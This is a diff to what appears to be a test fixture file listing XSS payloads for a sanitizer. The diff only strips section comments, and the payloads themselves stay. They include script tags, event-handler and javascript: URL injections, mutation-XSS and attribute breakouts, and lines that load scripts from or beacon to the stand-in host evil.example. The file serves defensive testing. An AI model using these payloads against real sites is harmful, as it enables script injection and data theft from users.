@@ -1,6 +1,5 @@
-/** XSS payloads: each sets `__hit`, opens a dialog or requests `evil.example` if it is run. */
+/** Each payload sets `__hit`, opens a dialog or requests `evil.example` if it runs. */
 export const payloads = [
-  // Elements that run by themselves.
   '<script>__hit=1</script>',
   '<script src=//evil.example/x.js></script>',
   "<script type=module>import'//evil.example/x.js'</script>",
@@ -19,7 +18,6 @@ export const payloads = [
   '<div contenteditable autofocus onfocus=__hit=1>',
   '<div style=animation:x onanimationend=__hit=1>',
   '<a href=x autofocus onfocus=__hit=1>x</a>',
-  // Frames, navigation and forms.
   '<object data=javascript:__hit=1>',
   '<object data=//evil.example/x>',
   '<embed src=//evil.example/x>',
@@ -33,7 +31,6 @@ export const payloads = [
   '<base href=//evil.example/>',
   '<meta http-equiv=refresh content="0;url=//evil.example/">',
   '<meta http-equiv=refresh content="0;javascript:__hit=1">',
-  // Requests to a foreign host.
   '<img src=//evil.example/p.png>',
   '<img srcset="//evil.example/p.png 1x">',
   '<video poster=//evil.example/p.png>',
@@ -47,7 +44,6 @@ export const payloads = [
   '<style>*{background:url(//evil.example/x)}</style>',
   '<div style="background:url(//evil.example/x)">x</div>',
   'red;background:url(//evil.example/x)',
-  // SVG, MathML and mutation XSS.
   '<svg onload=__hit=1>',
   '<svg/onload=__hit=1>',
   '<svg><script>__hit=1</script></svg>',
@@ -69,7 +65,6 @@ export const payloads = [
   '<![CDATA[><img src=x onerror=__hit=1>]]>',
   '<!--><img src=x onerror=__hit=1>-->',
   '<p id="</title><svg/onload=__hit=1>">',
-  // Breaking out of attributes, comments and elements.
   '"><svg onload=__hit=1>',
   "'><img src=x onerror=__hit=1>",
   '" autofocus onfocus=__hit=1 x="',
@@ -80,7 +75,6 @@ export const payloads = [
   '</style><img src=x onerror=__hit=1>',
   "'-(__hit=1)-'",
   '";__hit=1;//',
-  // Addresses, Markdown and our own markup.
   'javascript:__hit=1',
   'JaVaScRiPt:__hit=1//',
   'java&Tab;script:__hit=1',
@@ -95,7 +89,6 @@ export const payloads = [
   '[[x|<img src=x onerror=__hit=1>]]',
   '[[<svg onload=__hit=1>|Rowan]]',
   ':::gm <img src=x onerror=__hit=1> :::',
-  // Templates and Unicode.
   "{{constructor.constructor('__hit=1')()}}",
   // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a template
   '${__hit=1}',
